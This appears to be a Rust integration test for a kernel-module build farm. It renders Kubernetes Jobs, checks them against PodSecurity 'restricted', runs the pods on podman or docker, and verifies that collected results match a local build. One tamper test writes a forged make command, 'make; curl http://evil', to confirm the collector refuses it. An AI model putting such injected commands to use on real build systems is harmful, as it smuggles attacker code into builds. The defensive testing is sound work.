//! The farm on Kubernetes, on each engine (fails when one is missing): `farm kube render` of
//! 3 module sources (a Debian package, a module that builds, one that fails in make) × 2
//! kernels pushes the images to Debian's docker-registry on loopback and writes manifests
//! that kubernetes-validate accepts (1.35 and the newest it knows) and whose pods pass
//! PodSecurity "restricted"; the pods run as written on the engine (tests/support/kube_pods.rs:
//! the image pulled by digest, read-only, no capabilities, no network, non-root, indexes 0..N
//! `parallelism` at a time); `farm kube collect` stores the same keys and byte-identical
//! modules as `farm build` of the same matrix on the same engine, the failed pair with its
//! make.log. Then, on the results: a tampered module, a result moved to another index, a
//! forged plan and a missing index are refused or reported, and a second render finds
//! nothing to build.
mod support;

#[path = "support/registry.rs"]
mod registry;

#[path = "support/kube_pods.rs"]
mod kube_pods;

#[path = "support/kube_validate.rs"]
mod kube_validate;

#[path = "support/bookworm.rs"]
mod bookworm;

use std::collections::{BTreeMap, HashMap};
use std::path::{Path, PathBuf};
use std::time::Instant;

use support::{ckms, engine_host, newest_trixie, shared_cache, Outcome};

const KERNEL: &str = "6.1.0-56-amd64";
const CLAIM: &str = "ckms-results";

const C: &str =
    "#include <linux/module.h>\nstatic int __init i(void) { return 0; }\nmodule_init(i);\nMODULE_LICENSE(\"GPL\");\n";

/// A module source written for the test.
fn module(dir: &Path, name: &str, c: &str) -> String {
    let d = dir.join(name);
    std::fs::create_dir_all(&d).unwrap();
    let conf = format!(
        "PACKAGE_NAME=\"{name}\"\nPACKAGE_VERSION=\"1.0\"\nBUILT_MODULE_NAME[0]=\"{name}\"\nDEST_MODULE_LOCATION[0]=\"/updates/dkms\"\n"
    );
    std::fs::write(d.join("dkms.conf"), conf).unwrap();
    std::fs::write(d.join("Kbuild"), format!("obj-m := {name}.o\n")).unwrap();
    std::fs::write(d.join(format!("{name}.c")), c).unwrap();
    d.display().to_string()
}

fn run(engine: Option<&str>, args: &[&str]) -> Outcome {
    let cache = shared_cache();
    let mut all: Vec<&str> = Vec::new();
    if let Some(e) = engine {
        all.extend(["--engine", e]);
    }
    all.extend(["--cache-dir", cache.to_str().unwrap()]);
    all.extend_from_slice(args);
    ckms(all).run()
}

/// The debug binary without its debug sections: what the pods run (a tenth of the size).
fn pod_binary(dir: &Path) -> PathBuf {
    bookworm::need("objcopy", "binutils");
    let out = dir.join("ckms");
    let status = std::process::Command::new("objcopy")
        .args(["--strip-debug", env!("CARGO_BIN_EXE_ckms")])
        .arg(&out)
        .status()
        .unwrap();
    assert!(status.success(), "objcopy --strip-debug failed");
    out
}

/// Every module file of a store, by its path in the store (pairs/<key>/...): unsigned and signed.
fn module_files(store: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    let pairs = store.join("pairs");
    for entry in std::fs::read_dir(&pairs).unwrap() {
        let dir = entry.unwrap().path();
        for sub in ["modules", "unsigned"] {
            let Ok(files) = std::fs::read_dir(dir.join(sub)) else { continue };
            for f in files {
                let f = f.unwrap().path();
                out.insert(f.strip_prefix(store).unwrap().display().to_string(), std::fs::read(&f).unwrap());
            }
        }
    }
    out
}

/// `farm status --json` of a store: (module, kernel) → status.
fn statuses(store: &Path) -> BTreeMap<(String, String), String> {
    let out = run(None, &["--json", "farm", "status", "--store", store.to_str().unwrap()]);
    out.expect_code(0);
    out.stdout
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
        .map(|v| {
            let module = v["module"].as_str().unwrap_or_default().to_string();
            let kernel = v["kernel"].as_str().unwrap_or_default().to_string();
            ((module, kernel), v["status"].as_str().unwrap_or_default().to_string())
        })
        .collect()
}

fn yaml_files(dir: &Path) -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "yaml"))
        .collect();
    files.sort();
    files
}

/// Every rendered pod spec against PodSecurity "restricted" and ckms's own rules.
fn pod_security(dir: &Path) -> usize {
    let mut jobs = 0;
    for file in yaml_files(dir) {
        let text = std::fs::read_to_string(&file).unwrap();
        let value: serde_json::Value = serde_norway::from_str(&text).unwrap();
        if value["kind"] != "Job" {
            continue;
        }
        let job: k8s_openapi::api::batch::v1::Job = serde_json::from_value(value).unwrap();
        let spec = job.spec.unwrap().template.spec.unwrap();
        let broken: Vec<String> = ckms::kube::podsecurity::restricted(&spec)
            .into_iter()
            .chain(ckms::kube::podsecurity::ckms_rules(&spec))
            .collect();
        assert!(broken.is_empty(), "{}: {broken:?}", file.display());
        jobs += 1;
    }
    jobs
}

fn copy_tree(from: &Path, to: &Path) {
    let status = std::process::Command::new("cp").arg("-a").arg(from).arg(to).status().unwrap();
    assert!(status.success());
}

fn scenario(var: &str, faults: bool) {
    let engine = engine_host(var);
    let kind = if var.contains("PODMAN") { "podman" } else { "docker" };
    let started = Instant::now();
    let trixie = newest_trixie(&engine);
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    let sources = [
        "deb:v4l2loopback-dkms".to_string(),
        module(&src, "khello", C),
        module(&src, "kbroken", "#include <linux/module.h>\nthis is not C;\n"),
    ];
    let registry = registry::LocalRegistry::start();
    let store = dir.path().join("store");
    let out = dir.path().join("manifests");
    let binary = pod_binary(dir.path());
    let reference = format!("{}/ckms/build", registry.host);
    let mut args = args_render(&store, &reference, &out, &binary, &trixie, &sources);
    args.extend(["--parallelism", "2", "--cpus", "1"]);
    let rendered = run(None, &args);
    rendered.expect_code(0);
    assert!(rendered.stdout.contains("2 Job(s), 6 pair(s) to build"), "{rendered}");
    let render_secs = started.elapsed().as_secs_f64();

    let files = yaml_files(&out);
    kube_validate::validate(&files);
    assert_eq!(pod_security(&out), 2, "one Job per kernel");

    let results = dir.path().join("results");
    std::fs::create_dir_all(&results).unwrap();
    let cli = if kind == "podman" {
        kube_pods::Cli::Podman { url: engine.clone() }
    } else {
        kube_pods::Cli::Docker { host: engine.clone() }
    };
    let pods_started = Instant::now();
    let pods = kube_pods::run_rendered(&out, &cli, &HashMap::from([(CLAIM.to_string(), results.clone())]));
    let pods_secs = pods_started.elapsed().as_secs_f64();
    assert_eq!(pods.len(), 6);
    for p in &pods {
        // A failed build is a result: the pod succeeds.
        assert!(p.exit_code == 0 && !p.timed_out, "{} index {}: exit {}\n{}", p.job, p.index, p.exit_code, p.log);
    }

    let collected = run(
        None,
        &["farm", "kube", "collect", "--store", store.to_str().unwrap(), "--from", results.to_str().unwrap()],
    );
    collected.expect_code(11);
    assert!(collected.stdout.contains("6 stored, 0 refused, 0 without a result"), "{collected}");
    let status = statuses(&store);
    for k in [KERNEL, trixie.as_str()] {
        assert_eq!(status[&("kbroken".to_string(), k.to_string())], "failed", "{status:?}");
        assert_eq!(status[&("khello".to_string(), k.to_string())], "built", "{status:?}");
        assert_eq!(status[&("v4l2loopback".to_string(), k.to_string())], "built", "{status:?}");
    }
    let failed_log = std::fs::read_dir(store.join("pairs"))
        .unwrap()
        .map(|e| e.unwrap().path().join("make.log"))
        .filter_map(|p| std::fs::read_to_string(p).ok())
        .find(|l| l.contains("kbroken"))
        .expect("the failed pair keeps its make.log");
    assert!(failed_log.contains("error"), "{failed_log}");

    // The same matrix built locally on the same engine: the same keys, the same bytes.
    let local = dir.path().join("local");
    let mut args = vec!["farm", "build", "--store", local.to_str().unwrap(), "-k", KERNEL, "-k", &trixie];
    args.extend(sources.iter().map(String::as_str));
    let local_started = Instant::now();
    run(Some(&engine), &args).expect_code(11);
    let local_secs = local_started.elapsed().as_secs_f64();
    let (ours, theirs) = (module_files(&store), module_files(&local));
    assert_eq!(ours.keys().collect::<Vec<_>>(), theirs.keys().collect::<Vec<_>>(), "the same keys and files");
    for (path, bytes) in &ours {
        assert!(bytes == &theirs[path], "{path} differs between the pods and the local build");
    }
    eprintln!(
        "kube on {kind}: render {render_secs:.1} s, 6 pods {pods_secs:.1} s, local farm build {local_secs:.1} s; \
         {} module files byte-identical",
        ours.len()
    );

    let again = run(None, &args_render(&store, &reference, &out, &binary, &trixie, &sources));
    again.expect_code(0);
    assert!(again.stdout.contains("0 Job(s), 0 pair(s) to build"), "{again}");

    if faults {
        refusals(dir.path(), &store, &results);
    }
}

fn args_render<'a>(
    store: &'a Path,
    reference: &'a str,
    out: &'a Path,
    binary: &'a Path,
    trixie: &'a str,
    sources: &'a [String],
) -> Vec<&'a str> {
    let mut args = vec![
        "farm",
        "kube",
        "render",
        "--store",
        store.to_str().unwrap(),
        "--registry",
        reference,
        "--insecure",
        "-k",
        KERNEL,
        "-k",
        trixie,
        "-o",
        out.to_str().unwrap(),
        "--ckms-binary",
        binary.to_str().unwrap(),
    ];
    args.extend(sources.iter().map(String::as_str));
    args
}

/// Results changed after the pods wrote them, on fresh copies of the store's plans.
fn refusals(dir: &Path, store: &Path, results: &Path) {
    let job = std::fs::read_dir(results).unwrap().map(|e| e.unwrap().file_name()).min().unwrap();
    let job = job.to_str().unwrap();
    let case = |name: &str, change: &dyn Fn(&Path)| -> (Outcome, PathBuf) {
        let copy = dir.join(format!("results-{name}"));
        copy_tree(results, &copy);
        change(&copy.join(job));
        let fresh = dir.join(format!("store-{name}"));
        std::fs::create_dir_all(&fresh).unwrap();
        std::fs::copy(store.join("ckms-store.json"), fresh.join("ckms-store.json")).unwrap();
        copy_tree(&store.join("kube"), &fresh.join("kube"));
        let out = run(
            None,
            &["farm", "kube", "collect", "--store", fresh.to_str().unwrap(), "--from", copy.to_str().unwrap()],
        );
        (out, fresh)
    };
    let module_in = |d: &Path| -> PathBuf { d.join("output-0.tar") };

    let (out, _) = case("tampered", &|j| {
        let tar = module_in(&j.join("0"));
        let mut bytes = std::fs::read(&tar).unwrap();
        let at = bytes.len() / 2;
        bytes[at] ^= 0xff;
        std::fs::write(&tar, bytes).unwrap();
    });
    out.expect_code(11);
    assert!(out.stdout.contains("REFUSED") && out.stdout.contains("changed after its pod wrote it"), "{out}");
    assert!(out.stdout.contains("1 refused"), "{out}");

    let (out, _) = case("moved", &|j| {
        std::fs::remove_dir_all(j.join("1")).unwrap();
        copy_tree(&j.join("0"), &j.join("1"));
    });
    assert!(out.stdout.contains("but that index builds"), "{out}");

    let (out, _) = case("forged", &|j| {
        let d = j.join("0");
        let make = d.join("reply/make");
        std::fs::write(&make, b"make; curl http://evil").unwrap();
        let mut t: serde_json::Value =
            serde_json::from_slice(&std::fs::read(d.join("transcript.json")).unwrap()).unwrap();
        t["sha256"]["reply/make"] = support::sha256_file(&make).into();
        std::fs::write(d.join("transcript.json"), serde_json::to_vec(&t).unwrap()).unwrap();
    });
    assert!(out.stdout.contains("does not replay") && out.stdout.contains("another make"), "{out}");

    let (out, fresh) = case("missing", &|j| std::fs::remove_dir_all(j.join("2")).unwrap());
    assert!(out.stdout.contains("no result") && out.stdout.contains("1 without a result"), "{out}");
    assert_eq!(statuses(&fresh).len(), 5, "the missing index is not stored");
}

#[test]
fn kube_on_podman() {
    scenario("CKMS_TEST_PODMAN_HOST", true);
}

#[test]
fn kube_on_docker() {
    scenario("CKMS_TEST_DOCKER_HOST", false);
}
